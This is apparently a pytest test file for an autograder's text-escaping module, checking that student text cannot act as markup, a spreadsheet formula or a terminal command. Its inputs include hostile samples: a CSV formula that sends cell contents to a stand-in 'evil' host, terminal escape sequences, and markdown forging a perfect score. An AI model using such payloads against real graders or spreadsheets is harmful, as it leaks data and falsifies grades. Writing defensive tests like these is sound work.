"""The one policy for student text: nothing a student writes is sent as markup, a formula or a
terminal command."""
import csv
import io

import pytest

from autograder import escaping


def test_a_code_block_fence_is_longer_than_any_run_of_backticks_or_tildes_inside():
    text = "~~~~\n~~~\n````` \n<img src=x>"
    block = escaping.code_block(text)
    fence = block.split("\n")[0].removesuffix("text")
    assert set(fence) == {"`"} and len(fence) == 6
    assert block.endswith("\n" + fence)
    assert all(not line.startswith(fence) for line in block.split("\n")[1:-1])


def test_control_characters_are_shown_not_sent():
    shown = escaping.terminal("\x1b[H\x1b[J\x1bc batch OK\u202e\x00")
    assert "\x1b" not in shown and "\u202e" not in shown and "\x00" not in shown
    assert shown == "\\x1b[H\\x1b[J\\x1bc batch OK\\u202e\\x00"


def test_newlines_and_tabs_survive_in_a_terminal_and_a_code_block():
    assert escaping.terminal("a\n\tb") == "a\n\tb"
    assert "a\n\tb" in escaping.code_block("a\n\tb")


def test_inline_text_cannot_make_links_images_html_or_headings():
    shown = escaping.inline("# Score 100\n![x](http://t/p.png) <b>hi</b> [a](b)")
    for raw in ("![", "](", "<b>", "\n"):
        assert raw not in shown
    assert shown.startswith("\\#")
    assert "\\!\\[x\\]\\(http" in shown


def test_html_escapes_markup_and_quotes():
    assert escaping.html('<script>"x"</script>') == "&lt;script&gt;&quot;x&quot;&lt;/script&gt;"


def test_csv_cells_that_would_start_a_formula_are_neutralised():
    name = '=HYPERLINK("http://evil/?"&B3&B4,"Regrade")'
    assert escaping.csv_cell(name).startswith("'=")
    for start in "=+-@\t\r":
        assert escaping.csv_cell(start + "1+1").startswith("'")
    assert escaping.csv_cell(-3.5) == -3.5 and escaping.csv_cell("Ada Lovelace") == "Ada Lovelace"
    row = io.StringIO()
    csv.writer(row).writerow([escaping.csv_cell(name)])
    assert not row.getvalue().startswith("=")


def test_cap_says_how_much_was_left_out():
    assert escaping.cap("abcdef", 4) == "abcd\n… (2 more characters not shown)"
    assert escaping.cap("abc", 4) == "abc"


# ---------------------------------------------------------------- student text inside grader text

def test_marked_student_text_reads_as_it_is_once_the_marks_are_dropped():
    text = f"f raised {escaping.student('ValueError')}: {escaping.student('boom', code=True)}\n" \
           + escaping.student_block("line 1\nline 2")
    assert escaping.unmarked(text) == "f raised ValueError: boom\nline 1\nline 2"
    assert escaping.terminal(text) == escaping.unmarked(text)


def test_student_text_cannot_forge_or_close_a_mark():
    forged = "a\u2064 # not mine \u2061b\u2063c"
    segments = escaping.markdown_segments("said: " + escaping.student(forged))
    assert segments == [("prose", "said: "), ("inline", "a # not mine bc")]


def test_marked_text_splits_into_prose_inline_code_and_blocks():
    text = "x " + escaping.student("y") + " z " + escaping.student("k", code=True) + escaping.student_block("b")
    assert escaping.markdown_segments(text) == [("prose", "x "), ("inline", "y"), ("prose", " z "), ("code", "k"),
                                                ("block", "b")]


def test_a_mark_left_open_by_a_cut_runs_to_the_end():
    assert escaping.markdown_segments("x " + escaping.student("long text")[:6]) == [("prose", "x "),
                                                                                   ("inline", "long ")]


def test_student_text_in_a_sentence_is_capped_and_says_how_much_was_cut():
    assert escaping.unmarked(escaping.student("a" * 500, limit=10)) == "a" * 10 + " … (490 more characters not shown)"


def test_a_code_span_shows_backticks_and_html_literally():
    assert escaping.code_span("`x` <b>") == "`` `x` <b> ``"
    assert escaping.code_span("") == "(empty)"


@pytest.mark.parametrize("line, shown", [
    ("# Autograder score: 100", "\\# Autograder score: 100"),
    ("~~~~", "\\~\\~\\~\\~"),
    ("1. a list", "1\\. a list"),
    ("see [x](http://e.example) and ![i](u)", "see [x\\](http\\://e.example) and ![i\\](u)"),
    ("a <img src=x> & b", "a &lt;img src=x&gt; &amp; b"),
    ("`y` has shape (3,)", "`y` has shape (3,)"),
    ("batchnorm_forward and **bold**", "batchnorm_forward and \\*\\*bold\\*\\*"),
])
def test_prose_escapes_what_would_become_markup_and_keeps_code_spans(line, shown):
    assert escaping.prose(line) == shown
